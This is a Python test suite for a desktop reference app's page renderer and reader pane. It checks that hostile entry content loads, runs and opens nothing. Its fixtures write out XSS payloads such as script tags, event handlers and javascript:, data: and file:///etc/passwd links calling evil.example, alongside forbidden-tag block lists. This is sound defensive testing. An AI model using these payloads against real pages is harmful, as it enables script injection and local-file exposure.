"""Guarantee: whatever the content holds, a page runs nothing, fetches nothing and opens
nothing by itself; only an https link the user clicks reaches the system browser."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

import markdown
import pytest
from PySide6.QtCore import QByteArray, QEvent, QPointF, Qt, QUrl
from PySide6.QtGui import QColor, QDesktopServices, QImage, QMouseEvent, QTextDocument
from PySide6.QtWidgets import QApplication

from hipref.content.schema import TYPES
from hipref.render.page import PageContext, render_entry, render_plain
from hipref.render.safe_markdown import SafeMarkdownExtension
from hipref.store.records import EntryDetail, LinkedEntry
from hipref.ui.reader import Reader
from tests.ui.helpers import click_link
from tests.windows import open_window

HOSTILE_MD = """\
Plain words first. <script>alert('x')</script> and <b onclick="alert(1)">bold</b>

<script src="http://evil.example/x.js"></script>

<img src="http://evil.example/track.png" onerror="alert(1)">
<iframe src="http://evil.example/frame"></iframe>
<style>body { background: url(http://evil.example/bg.png) }</style>
<object data="file:///etc/passwd"></object><embed src="file:///etc/passwd">
<link rel="stylesheet" href="http://evil.example/x.css"><meta http-equiv="refresh" content="0;url=http://evil.example">
<a href="javascript:alert(1)" onmouseover="alert(2)">raw js link</a>
<div style="background-image: url(file:///etc/passwd)">styled div</div>
<svg onload="alert(1)"><image href="http://evil.example/x.png"/></svg>
<form action="http://evil.example"><input name="q"></form>

- [js link](javascript:alert(1)) and [JS link](  JaVaScRiPt:alert(1) )
- [file link](file:///etc/passwd) and [data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
- [vb link](vbscript:msgbox) and [ref link][evil] and <file:///etc/shadow>
- ![tracking image](http://evil.example/pixel.gif) ![local image](file:///etc/hostname)
- ![data image](data:image/png;base64,iVBORw0KGgo=)
- [![image in link](http://evil.example/i.png)](http://evil.example/)
- [quote breaker](https://evil.example/"onmouseover="alert(1))
- an autolink <http://evil.example/auto> and [a DOI](https://doi.org/10.1000/xyz)

[evil]: javascript:alert(document.cookie)
"""

HOSTILE_TEXT = '<script>alert("title")</script><img src=x onerror=alert(1)> "quoted" & <b>'

DATA_PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
FORBIDDEN_TAGS = {
    "script", "img", "iframe", "style", "object", "embed", "link", "meta", "svg", "image", "form",
    "input", "base", "frame", "frameset", "video", "audio", "source", "div", "math", "button",
}  # fmt: skip
FORBIDDEN_IN_VALUES = ("javascript:", "vbscript:", "file:", "data:", "url(", "expression(", "@import")


def hostile_detail(type_: str) -> EntryDetail:
    fields: dict = {}
    if type_ == "study":
        fields = {
            "authors": [HOSTILE_TEXT, "Doe J"],
            "citation_title": HOSTILE_TEXT,
            "journal": "<iframe src=http://evil.example>",
            "year": 2020,
            "doi": '10.1000/<script>"onmouseover=alert(1)',
            "pmid": "javascript:alert(1)",
            "pmcid": "<img src=http://evil.example/x.png>",
            "registration": "<b>NCT0</b>",
            "n": "<script>1</script>",
            "design": "rct",
            "design_label": HOSTILE_TEXT,
            "evidence_level": "<i>2</i>",
            "evidence_note": HOSTILE_TEXT,
            "evidence_scale": HOSTILE_TEXT,
            "verified": "yes",
            "as_cited": HOSTILE_TEXT,
            **{key: HOSTILE_MD for key in ("compared", "outcomes", "reports", "article_use", "discrepancies")},
        }
    elif type_ == "structure":
        fields = {"kind": "<script>k</script>", "location": HOSTILE_MD, "function": HOSTILE_MD}
    elif type_ == "site":
        fields = {"approach": HOSTILE_TEXT}
    elif type_ == "source":
        fields = {"authors": [HOSTILE_TEXT], "publisher": HOSTILE_TEXT, "date": "<b>2022</b>", "disclosure": HOSTILE_MD}
    links = (
        LinkedEntry("source", "the-article", HOSTILE_TEXT, "<script>rel</script>"),
        LinkedEntry("condition", 'x"onclick="alert(1)', HOSTILE_TEXT, "related"),
    )
    return EntryDetail(
        id=1,
        type=type_,
        slug="hostile",
        title=HOSTILE_TEXT,
        aliases=(HOSTILE_TEXT, "javascript:alert(1)"),
        summary_md=HOSTILE_MD,
        plain_md=HOSTILE_MD,
        body_md=HOSTILE_MD,
        fields=fields,
        position=1,
        links=links,
    )


class Elements(HTMLParser):
    """Every element and attribute of a page, as a browser-like parser sees them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def assert_harmless(html: str) -> None:
    elements = Elements(html)
    assert elements.tags, "the page has no elements at all"
    for tag, attrs in elements.tags:
        assert tag not in FORBIDDEN_TAGS, f"live <{tag}> in the page"
        for name, value in attrs:
            value = (value or "").strip().lower()
            assert not name.startswith("on"), f"event handler {name}= on <{tag}>"
            assert name not in ("src", "srcset", "background", "action", "formaction", "poster", "data"), name
            assert not any(bad in value for bad in FORBIDDEN_IN_VALUES), f"<{tag} {name}={value!r}>"
            if name == "href":
                internal = value.startswith(("hipref:", "https://", "http://")) or re.fullmatch(r"#s-[a-z0-9-]+", value)
                assert tag == "a" and internal, f"{tag} href={value!r}"  # or a jump to one of the page's sections


@pytest.mark.parametrize("type_", TYPES)
def test_rendered_pages_hold_nothing_live(type_):
    detail = hostile_detail(type_)
    for html in (
        render_entry(detail),
        render_entry(detail, PageContext(highlight=("script", "alert"))),
        render_plain(detail),
    ):
        assert_harmless(html)
        assert "<script" not in html.lower() and "&lt;script&gt;" in html, "raw HTML is shown as text"


def test_the_markdown_layer_alone_is_harmless():
    """Escaping and link filtering hold by themselves, before the page's allow-list runs."""
    html = markdown.markdown(HOSTILE_MD, extensions=[SafeMarkdownExtension(), "sane_lists"])
    assert_harmless(html)
    assert '<a href="https://doi.org/10.1000/xyz">a DOI</a>' in html


def test_the_checks_catch_live_markup():
    """The checks above would notice a page that let any of it through."""
    for live in (
        '<p><img src="http://evil.example/x.png"></p>',
        '<p><a href="javascript:alert(1)">x</a></p>',
        '<p onclick="alert(1)">x</p>',
        '<span style="background:url(file:///etc/passwd)">x</span>',
        "<script>alert(1)</script>",
    ):
        with pytest.raises(AssertionError):
            assert_harmless(live)


class RecordingReader(Reader):
    """The real reading pane, noting every resource the document asks it for."""

    def __init__(self) -> None:
        super().__init__()
        self.asked: list[tuple[int, str, object]] = []

    def loadResource(self, kind, name):  # noqa: N802 (Qt API)
        result = super().loadResource(kind, name)
        self.asked.append((int(kind.value if hasattr(kind, "value") else kind), name.toString(), result))
        return result


def holds_data(result: object) -> bool:
    if isinstance(result, QImage):
        return result.width() * result.height() > 1
    if isinstance(result, QByteArray | bytes):
        return len(result) > 0
    return result is not None


@pytest.fixture
def opened_urls(monkeypatch) -> list[str]:
    opened: list[str] = []

    def record(url):
        opened.append(url.toString())
        return True

    monkeypatch.setattr(QDesktopServices, "openUrl", staticmethod(record))
    return opened


@pytest.fixture
def reader(qtbot):
    widget = RecordingReader()
    qtbot.addWidget(widget)
    widget.resize(700, 900)
    widget.show()
    qtbot.waitExposed(widget)
    emitted: list[str] = []
    widget.open_ref.connect(lambda ref: emitted.append(f"open_ref {ref}"))
    widget.external_link.connect(lambda url: emitted.append(f"external_link {url.toString()}"))
    widget.emitted = emitted
    return widget


def show(qtbot, reader: RecordingReader, html: str) -> None:
    reader.setHtml(html)
    reader.document().adjustSize()
    reader.grab()  # lay out and paint everything, so every resource is asked for
    QApplication.processEvents()


def click_text(reader: Reader, text: str) -> str:
    """Click on ``text`` wherever it is, link or not; returns the link target under the mouse."""
    cursor = reader.document().find(text, 0, QTextDocument.FindFlag.FindCaseSensitively)
    assert not cursor.isNull(), f"{text!r} is not on the page"
    reader.setTextCursor(cursor)
    reader.ensureCursorVisible()
    rect = reader.cursorRect(cursor)  # the end of the found text: click on its last letter
    point = QPointF(rect.left() - 4, rect.center().y())
    target = reader.anchorAt(point.toPoint())
    for kind in (QEvent.Type.MouseButtonPress, QEvent.Type.MouseButtonRelease):
        event = QMouseEvent(
            kind, point, reader.viewport().mapToGlobal(point), Qt.MouseButton.LeftButton,
            Qt.MouseButton.LeftButton if kind == QEvent.Type.MouseButtonPress else Qt.MouseButton.NoButton,
            Qt.KeyboardModifier.NoModifier,
        )  # fmt: skip
        QApplication.sendEvent(reader.viewport(), event)  # a plain-text click is ignored without a warning
    return target


@pytest.mark.parametrize("type_", ["condition", "study", "source"])
def test_hostile_pages_in_the_reader_fetch_and_open_nothing(qtbot, reader, opened_urls, type_):
    detail = hostile_detail(type_)
    show(qtbot, reader, render_entry(detail))
    fetched = [(url, result) for _, url, result in reader.asked if holds_data(result)]
    assert fetched == [], f"the page loaded real data: {fetched}"
    for text in ("js link", "JS link", "file link", "data link", "vb link", "ref link", "raw js link", "styled div"):
        assert click_text(reader, text) == "", f"{text!r} is still a link"
    QApplication.processEvents()  # what the clicks queued is handled before checking
    assert reader.emitted == [] and opened_urls == []
    assert reader.source().isEmpty()


def test_reader_never_reads_local_or_remote_resources_itself(qtbot, reader, opened_urls, tmp_path: Path):
    """Even markup that slipped past the renderer cannot make the reader load a file."""
    picture = tmp_path / "picture.png"
    image = QImage(40, 30, QImage.Format.Format_ARGB32)
    image.fill(QColor("red"))
    assert image.save(str(picture))
    sheet = tmp_path / "sheet.css"
    sheet.write_text("p { color: red; font-size: 80px }")
    file_png, file_css = QUrl.fromLocalFile(str(picture)).toString(), QUrl.fromLocalFile(str(sheet)).toString()
    html = (
        f'<html><head><link rel="stylesheet" type="text/css" href="{file_css}"></head><body>'
        f'<p><img src="{file_png}" width="40" height="30"> <img src="picture.png"> '
        '<img src="http://127.0.0.1:9/x.png"> <img src="https://evil.example/x.png">'
        f'<img src="data:image/png;base64,{DATA_PNG}"></p>'
        f'<table background="{file_png}"><tr><td>cell</td></tr></table>'
        f'<p><a href="javascript:alert(1)">js link</a> <a href="{file_png}">file link</a> '
        '<a href="data:text/html,hi">data link</a> <a href="ftp://evil.example/">ftp link</a> '
        '<a href="mailto:someone@example.com">mail link</a> <a href="picture.png">relative link</a></p>'
        "</body></html>"
    )
    reader.document().setBaseUrl(QUrl.fromLocalFile(str(tmp_path) + "/"))
    show(qtbot, reader, html)
    asked = {url for _, url, _ in reader.asked}
    assert any(url.startswith("file:") for url in asked), "the test page did ask for a local file"
    fetched = [(url, result) for _, url, result in reader.asked if holds_data(result)]
    assert fetched == [], f"the reader loaded real data: {fetched}"
    cached = reader.document().resource(QTextDocument.ResourceType.ImageResource.value, QUrl(file_png))
    assert not holds_data(cached), "the local picture reached the page"
    for text in ("js link", "file link", "data link", "ftp link", "mail link", "relative link"):
        click_link(qtbot, reader, text)
    QApplication.processEvents()  # what the clicks queued is handled before checking
    assert reader.emitted == [] and opened_urls == []
    assert reader.source().isEmpty() and "relative link" in reader.toPlainText()


def test_a_doi_link_opens_in_the_browser_only_when_clicked(qtbot, fixture_db, data_dir, opened_urls):
    with open_window(qtbot, fixture_db, data_dir) as window:
        followed: list[str] = []
        window.reader.external_link.connect(lambda url: followed.append(url.toString()))
        assert window.open_ref("study/gul-2020")
        doi = window.session.current.fields["doi"]
        QApplication.processEvents()
        assert opened_urls == [] and followed == [], "nothing opens by itself"
        click_link(qtbot, window.reader, doi)
        qtbot.waitUntil(lambda: opened_urls != [])
        assert opened_urls == [f"https://doi.org/{doi}"] and followed == opened_urls
        assert window.session.current.ref == "study/gul-2020", "the page stays where it was"


def test_style_attributes_keep_only_harmless_properties():
    from hipref.render.page import md, sanitize

    assert "background-color" in md("piriformis", highlight=("piri",))
    cleaned = sanitize('<span style="color:#000;background-image:url(file:///etc/passwd)">x</span>')
    assert "url(" not in cleaned and "color:#000" in cleaned
    assert sanitize('<a href="javascript:alert(1)" onclick="x()">y</a>') == "<a>y</a>"
